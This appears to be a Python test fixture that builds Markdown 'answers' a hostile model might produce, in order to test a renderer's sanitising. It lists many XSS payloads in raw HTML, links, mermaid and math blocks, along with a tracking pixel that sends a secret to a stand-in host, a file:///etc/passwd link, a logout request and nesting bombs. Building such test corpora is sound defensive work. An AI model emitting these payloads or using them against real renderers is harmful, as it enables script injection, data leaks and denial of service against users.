"""What a hostile model might answer: known ways to get script, markup or requests out of Markdown."""

from __future__ import annotations

# What each of them tries to run.
OWN = "window.owned=1"
# A name that never resolves (RFC 6761): the test looks at what was asked for, not at what came back.
AWAY = "https://away.invalid"

_MARKUP = [
    f"<script>{OWN}</script>",
    f"<ScRiPt type=module>{OWN}</sCrIpT>",
    f"<scr<script>ipt>{OWN}</scr</script>ipt>",
    f'<script src="{AWAY}/s.js"></script>',
    f"<img src=x onerror={OWN}>",
    f"<img/src=x/onerror={OWN}>",
    f'<img src="x` `" onerror="{OWN}">',
    f'<b onmouseover="{OWN}" style="position:fixed;inset:0">cover</b>',
    f'<details open ontoggle="{OWN}"><summary>s</summary></details>',
    f'<input autofocus onfocus="{OWN}">',
    f'<video><source onerror="{OWN}"></video>',
    f'<body onload="{OWN}">',
    f'<marquee onstart="{OWN}">m</marquee>',
    f'<iframe src="javascript:{OWN}"></iframe>',
    f'<iframe srcdoc="&lt;script&gt;parent.{OWN}&lt;/script&gt;"></iframe>',
    f'<object data="javascript:{OWN}"></object><embed src="{AWAY}/e.swf">',
    f'<meta http-equiv="refresh" content="0;url={AWAY}">',
    f'<base href="{AWAY}/">',
    f'<link rel="stylesheet" href="{AWAY}/l.css"><link rel="dns-prefetch" href="{AWAY}">',
    f"<style>@import '{AWAY}/i.css'; body {{ background: url({AWAY}/b.png); display: none }}</style>",
    f'<form action="javascript:{OWN}"><button>Sign in</button></form>',
    f'<button formaction="javascript:{OWN}">Go</button>',
    f'<a href="javascript:{OWN}">raw link</a>',
    f'<div style="background:url({AWAY}/d.png)">div</div>',
    f'<svg onload="{OWN}"><script>{OWN}</script></svg>',
    f'<svg><a xlink:href="javascript:{OWN}"><text y="20">t</text></a></svg>',
    f'<svg><animate onbegin="{OWN}" attributeName="x" dur="1s"></svg>',
    f'<svg><use href="data:image/svg+xml,<svg id=x onload={OWN}>#x"></svg>',
    f'<math><a xlink:href="javascript:{OWN}">m</a></math>',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={OWN}&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={OWN}>"></noscript>',
    f"<template><img src=x onerror={OWN}></template>",
    f'<x onclick="{OWN}" tabindex=1 id=x autofocus onfocus="{OWN}">x</x>',
    f"<div id=bench name=composer-input><a id=cookie name=forms>clobber {OWN}</a></div>",
    f"<![CDATA[<img src=x onerror={OWN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={OWN}>",
]

_LINKS = [
    f"[plain](javascript:{OWN})",
    f"[case](JaVaScRiPt:{OWN})",
    f"[brackets](<javascript:{OWN}>)",
    f"[space](<  javascript:{OWN}>)",
    f"[tab](<java\tscript:{OWN}>)",
    f"[entity](javascript&colon;{OWN})",
    f"[entities](&#106;&#97;&#118;&#97;script&#58;{OWN})",
    f"[hex](&#x6A;avascript:{OWN})",
    f"[newline](java&#10;script:{OWN})",
    f"[nul](java&#0;script:{OWN})",
    f"[control](<\x01javascript:{OWN}>)",
    f"[percent](javascript%3A{OWN})",
    f"[vb](vbscript:{OWN})",
    f"[data](data:text/html,<script>{OWN}</script>)",
    "[base64](data:text/html;base64,PHNjcmlwdD53aW5kb3cub3duZWQ9MTwvc2NyaXB0Pg==)",
    "[file](file:///etc/passwd)",
    f"[blob](blob:{AWAY}/x)",
    f"[view](view-source:javascript:{OWN})",
    "[relative](/api/auth/logout)",
    "[scheme](//away.invalid/x)",
    f"[reference][bad]\n\n[bad]: javascript:{OWN} '{OWN}'",
    f"<javascript:{OWN}>",
    f"<data:text/html,{OWN}>",
    f"javascript:{OWN}",
    f'[title](https://example.org "x\\" onmouseover={OWN} ")',
    f'[quote](https://example.org/"onclick="{OWN})',
    f"![image](javascript:{OWN})",
    f"![pixel]({AWAY}/p.png?secret=1)",
    f"![svg](data:image/svg+xml,<svg onload={OWN}>)",
    f'![alt" onerror="{OWN}](x)',
    f"[![nested](javascript:{OWN})](javascript:{OWN})",
    f"[^1]\n\n[^1]: [note](javascript:{OWN}) <img src=x onerror={OWN}>",
    f"| [cell](javascript:{OWN}) |\n| --- |\n| <img src=x onerror={OWN}> |",
    f"www.away.invalid/<img/src=x/onerror={OWN}>",
    f"mailto:{OWN}@away.invalid",
]

_BLOCKS = [
    f"```html\n<script>{OWN}</script>\n```",
    f'```"><img src=x onerror={OWN}>\ncode\n```',
    f'```mermaid\ngraph TD\n  A[<img src=x onerror={OWN}>] --> B\n  click A "javascript:{OWN}"\n```',
    f'```mermaid\n%%{{init: {{"securityLevel": "loose", "themeCSS": "@import url({AWAY})"}}}}%%\ngraph LR\nA-->B\n```',
    f"```svg\n<svg onload={OWN}></svg>\n```",
    f"$$\n\\href{{javascript:{OWN}}}{{x}}\n$$",
    f"$$\n\\url{{javascript:{OWN}}}\n$$",
    f"$$\n\\htmlData{{x=1,onclick={OWN}}}{{y}}\n$$",
    f"$$\n\\htmlStyle{{background:url({AWAY}/k.png)}}{{z}}\n$$",
    f'$$\n\\htmlId{{x" onmouseover="{OWN}}}{{i}}\n$$',
    f"$$\n\\includegraphics[height=1em]{{{AWAY}/g.png}}\n$$",
    f"$$\n\\unknown<img src=x onerror={OWN}>\n$$",
    "$$\n\\def\\a{\\a\\a}\\a\n$$",
    "$$\n\\rule{9999em}{9999em}\n$$",
]

_DEEP = [
    "> " * 800 + "quoted",
    "".join(f"{'  ' * depth}- item\n" for depth in range(150)),
    "[" * 3000 + "brackets",
    "![" * 1500 + "images",
    "*a **b " * 800,
    "`" * 3001 + " ticks",
    "<div>" * 1500 + "tags",
    "$$\n" + "{" * 1500 + "x" + "}" * 1500 + "\n$$",
    "|" * 2000 + "\n" + "|-" * 1000 + "|",
    "wide" * 5000,
]

# What swallows everything behind it stands last, in an answer of its own.
_UNCLOSED = [
    f"<!-- comment --!><img src=x onerror={OWN}>",
    f"<img src=x onerror={OWN}",
    f"<!-- <script>{OWN}</script>",
    f"<style><script>{OWN}</script>",
    f"<textarea><img src=x onerror={OWN}>",
    f"<plaintext><img src=x onerror={OWN}>",
    f"[open](javascript:{OWN}",
    f"```\n<script>{OWN}</script>",
]


def marker(name: str, number: int) -> str:
    """Return the words that stand before a case."""
    return f"{name} case {number}:"


def answer(name: str, cases: list[str]) -> str:
    """Put cases into one answer, each behind a paragraph that must stay readable."""
    return "\n\n".join(f"{marker(name, number)}\n\n{case}" for number, case in enumerate(cases)) + "\n"


ANSWERS: dict[str, list[str]] = {
    "markup": _MARKUP,
    "links": _LINKS,
    "blocks": _BLOCKS,
    "deep": _DEEP,
    **{f"unclosed {number}": [case] for number, case in enumerate(_UNCLOSED)},
}
